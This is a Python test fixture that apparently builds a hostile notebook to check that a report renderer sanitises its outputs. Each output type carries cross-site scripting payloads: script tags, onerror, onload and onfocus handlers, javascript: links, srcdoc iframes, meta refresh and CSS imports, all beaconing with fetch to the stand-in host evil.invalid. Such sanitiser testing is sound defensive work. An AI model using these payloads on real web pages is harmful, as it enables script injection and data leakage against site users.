"""A notebook that tries everything it can to run or to fetch something in whoever reads it."""

from __future__ import annotations

import base64

from tests.runbook.report.folders import notebook, shown

HOST = "http://evil.invalid"
BEACON = f"document.title='owned';fetch('{HOST}/x')"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{BEACON}"><script>{BEACON}</script>
<image href="{HOST}/i.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{HOST}"/></foreignObject>
<a href="javascript:{BEACON}"><text y="20">a picture</text></a></svg>"""
HTML = f"""<p>kept</p><script>{BEACON}</script><script src="{HOST}/s.js"></script><img src="{HOST}/p.png" onerror="{BEACON}">
<img src=x onerror="{BEACON}"><a href="javascript:{BEACON}">link</a><a href="JaVaScRiPt&#58;{BEACON}">link</a>
<iframe src="{HOST}/f"></iframe><iframe srcdoc="<script>{BEACON}</script>"></iframe>
<form action="{HOST}/form"><input autofocus onfocus="{BEACON}"><button formaction="javascript:{BEACON}">b</button></form>
<svg onload="{BEACON}"><script>{BEACON}</script></svg><math><mi xlink:href="javascript:{BEACON}">m</mi></math>
<object data="{HOST}/o"></object><embed src="{HOST}/e"><video src="{HOST}/v" autoplay></video><audio src="{HOST}/a"></audio>
<link rel="stylesheet" href="{HOST}/c.css"><style>@import url({HOST}/i.css); body {{ background: url({HOST}/b.png) }}</style>
<meta http-equiv="refresh" content="0;url={HOST}"><base href="{HOST}"><div style="background:url({HOST}/d.png)">d</div>
<table background="{HOST}/t.png"><tr><td>cell</td></tr></table><details ontoggle="{BEACON}" open>x</details>
</pre></div></details></body><script>{BEACON}</script>"""
MARKDOWN = f"""# Title <script>{BEACON}</script>

<img src=x onerror="{BEACON}">

[link](javascript:{BEACON}) ![picture]({HOST}/m.png) [data](data:text/html;base64,PHNjcmlwdD4=)

<iframe src="{HOST}"></iframe>
"""


def hostile() -> str:
    """The notebook; every kind of output that a report renders, each with something in it that wants to run."""
    tag = f'</pre><script>{BEACON}</script><img src=x onerror="{BEACON}">'
    outputs = [
        shown(text_html=HTML),
        shown(**{"image/svg+xml": SVG}),
        shown(**{"image/png": f'x" onerror="{BEACON}'}),
        shown(**{"image/png": base64.b64encode(SVG.encode()).decode()}),
        shown(text_markdown=MARKDOWN),
        shown(text_plain=tag),
        shown(**{"application/javascript": BEACON, "text/plain": "js"}),
        shown(**{"application/vnd.runbook.gate+json": {"gate": tag, "verdict": tag, "sentence": tag, "threshold_pct": tag,
            "tables": [{"table": tag, tag: tag}], "findings": [{"severity": tag, "where": tag, "what": tag, "mend": tag}]}}),
        {"output_type": "stream", "name": "stdout", "text": tag},
        {"output_type": "error", "ename": tag, "evalue": tag, "traceback": [tag]},
    ]  # fmt: skip
    return notebook(outputs, MARKDOWN, source=tag)
